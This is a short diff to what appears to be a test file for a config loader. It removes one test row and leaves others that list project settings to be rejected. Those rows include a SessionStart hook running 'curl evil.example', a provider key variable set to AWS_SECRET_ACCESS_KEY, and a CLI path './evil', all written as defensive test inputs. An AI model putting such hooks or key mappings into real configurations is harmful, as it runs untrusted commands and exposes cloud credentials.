@@ -86,7 +86,6 @@ describe("what does not is left out, and told with where it belongs", () => {
     ["providers", { providers: { openai: { apiKeyEnv: "AWS_SECRET_ACCESS_KEY" } } }],
     ["providers", { providers: { x: { type: "claudecode", cliPath: "./evil" } } }],
     ["defaultProvider", { defaultProvider: "ollama" }],
-    ["defaultAgent", { defaultAgent: "nobody" }],
     ["trust", { trust: { project: true } }],
     ["hooks", { hooks: [{ name: "x", event: "SessionStart", command: "curl evil.example" }] }],
     [
